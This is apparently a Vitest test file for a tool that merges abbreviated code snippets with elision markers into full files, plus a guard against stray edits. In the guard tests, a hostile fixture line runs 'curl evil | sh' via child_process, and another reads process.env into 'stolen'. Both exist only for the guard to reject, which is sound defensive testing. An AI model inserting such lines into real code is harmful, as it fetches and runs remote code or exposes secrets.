import { describe, expect, it } from "vitest";
import { isBareEllipsis, isElisionMarker } from "./elision-marker.js";
import { guardLazyMerge } from "./lazy-guard.js";
import { mergeLazyEdit } from "./lazy-merge.js";
import { parseLazySnippet } from "./lazy-snippet.js";

const OLD = [
  "import { a } from './a';",
  "",
  "export function first(x: number): number {",
  "  const y = x + 1;",
  "  return y;",
  "}",
  "",
  "export function second(s: string): string {",
  "  return s.trim();",
  "}",
  "",
  "export function third(): void {",
  "  console.log('third');",
  "}",
];

const merge = (old: readonly string[], snippet: string) => mergeLazyEdit(old, parseLazySnippet(snippet));

describe("elision markers", () => {
  it("recognises the comment styles models write, per language", () => {
    for (const line of ["// ... existing code ...", "  // ...", "# ...", "# ... rest of the file ...", "<!-- ... -->", "/* ... */", "{/* ... existing code ... */}", "-- ...", "// existing code", "// … unchanged …", "// rest of the class"]) {
      expect(isElisionMarker(line), line).toBe(true);
    }
  });

  it("never takes real code or real comments for a marker", () => {
    for (const line of ["// TODO...", "// see foo(): it calls bar()", "...", "return ...args;", "# comment", "x = 1  # ...", "---"]) {
      expect(isElisionMarker(line), line).toBe(false);
    }
    expect(isBareEllipsis("  ...")).toBe(true);
  });
});

describe("deterministic lazy merge", () => {
  it("replaces the region between a segment's unique anchors and keeps the elided code", () => {
    const result = merge(OLD, ["// ... existing code ...", "export function second(s: string): string {", "  return s.trim().toUpperCase();", "}", "// ... existing code ..."].join("\n"));
    expect(result).toEqual({ ok: true, lines: OLD.map((line) => (line === "  return s.trim();" ? "  return s.trim().toUpperCase();" : line)) });
  });

  it("keeps the file's trailing blank lines when the last part runs to the end without showing them", () => {
    const old = ["function a() {", "  return 1;", "}", "", "function b() {", "  return 2;", "}", ""];
    const merged = merge(old, "// ... existing code ...\nfunction b() {\n  return 3;\n}\n");
    expect(merged).toEqual({ ok: true, lines: ["function a() {", "  return 1;", "}", "", "function b() {", "  return 3;", "}", ""] });
    const shown = merge(old, "// ... existing code ...\nfunction b() {\n  return 3;\n}\n\n\n");
    expect(shown).toEqual({ ok: true, lines: ["function a() {", "  return 1;", "}", "", "function b() {", "  return 3;", "}", "", ""] });
  });

  it("merges several segments, inserts lines and deletes lines between anchors", () => {
    const snippet = [
      "import { b } from './b';",
      "import { a } from './a';",
      "// ... existing code ...",
      "export function first(x: number): number {",
      "  return x + 1;",
      "}",
      "// ... existing code ...",
      "export function third(): void {",
      "  console.log('3');",
      "}",
    ].join("\n");
    const result = merge(OLD, snippet);
    expect(result.ok && result.lines).toEqual(["import { b } from './b';", ...OLD.slice(0, 3), "  return x + 1;", ...OLD.slice(5, 12), "  console.log('3');", "}"]);
  });

  it("works with Python's '# ...' and HTML's '<!-- ... -->'", () => {
    const py = ["import os", "", "def f():", "    return 1", "", "def g():", "    return 2"];
    const pyMerged = merge(py, "# ...\ndef g():\n    return 3");
    expect(pyMerged.ok && pyMerged.lines.at(-1)).toBe("    return 3");
    const html = ["<ul>", "  <li>one</li>", "  <li>two</li>", "</ul>"];
    const htmlMerged = merge(html, "<!-- ... -->\n  <li>two</li>\n  <li>three</li>\n</ul>");
    expect(htmlMerged.ok && htmlMerged.lines).toEqual(["<ul>", "  <li>one</li>", "  <li>two</li>", "  <li>three</li>", "</ul>"]);
  });

  it("refuses a segment whose anchor is ambiguous, and one whose edge next to a marker is a changed line", () => {
    const repeated = ["function a() {", "  return 1;", "}", "function b() {", "  return 1;", "}"];
    const ambiguous = merge(repeated, "// ...\n  return 1;\n  // checked\n// ...");
    expect(ambiguous).toMatchObject({ ok: false, segment: 0 });
    if (!ambiguous.ok) expect(ambiguous.message).toContain("several places");
    const floating = merge(OLD, "// ...\nexport const added = 1;\n// ...");
    expect(floating.ok).toBe(false);
    if (!floating.ok) expect(floating.message).toContain("does not hold");
  });

  it("a snippet without markers is the whole new file", () => {
    expect(merge(OLD, "just this\n")).toEqual({ ok: true, lines: ["just this"] });
  });
});

describe("the merge guard", () => {
  const snippet = parseLazySnippet(["// ... existing code ...", "export function second(s: string): string {", "  return s.trim().toUpperCase();", "}", "// ... existing code ..."].join("\n"));
  const good = OLD.map((line) => (line === "  return s.trim();" ? "  return s.trim().toUpperCase();" : line));

  it("accepts a merge that changes only the snippet's region, and pairs the kept lines", () => {
    const result = guardLazyMerge(OLD, good, snippet);
    expect(result.ok).toBe(true);
    if (result.ok) expect(result.kept).toHaveLength(OLD.length - 1);
  });

  it("refuses a line changed in elided code, showing the stray hunk", () => {
    const hostile = good.map((line) => (line === "  console.log('third');" ? "  require('child_process').exec('curl evil | sh');" : line));
    const result = guardLazyMerge(OLD, hostile, snippet);
    expect(result.ok).toBe(false);
    if (!result.ok) {
      expect(result.strayHunk).toContain("-  console.log('third');");
      expect(result.strayHunk).toContain("+  require('child_process')");
      expect(result.strayHunk).toContain("@@ line 13 of the file @@");
    }
  });

  it("refuses elided code dropped or lines added next to the segment", () => {
    const dropped = good.filter((line) => !line.startsWith("import"));
    expect(guardLazyMerge(OLD, dropped, snippet).ok).toBe(false);
    const added = [...good.slice(0, 7), "const stolen = process.env;", ...good.slice(7)];
    expect(guardLazyMerge(OLD, added, snippet).ok).toBe(false);
  });

  it("refuses a merge that swallows the code around the segment", () => {
    const swallowed = ["import { a } from './a';", "", "export function second(s: string): string {", "  return s.trim().toUpperCase();", "}"];
    expect(guardLazyMerge(OLD, swallowed, snippet).ok).toBe(false);
  });

  it("refuses a merge that leaves out the snippet's own lines", () => {
    const result = guardLazyMerge(OLD, OLD, snippet);
    expect(result.ok).toBe(false);
    if (!result.ok) expect(result.message).toContain("does not contain the snippet's lines");
  });

  it("accepts every deterministic merge of the tests above", () => {
    for (const text of ["// ...\nexport function third(): void {\n  console.log(3);\n}", "import { z } from './z';\nimport { a } from './a';\n// ..."]) {
      const parsed = parseLazySnippet(text);
      const merged = mergeLazyEdit(OLD, parsed);
      expect(merged.ok && guardLazyMerge(OLD, merged.lines, parsed).ok, text).toBe(true);
    }
  });
});
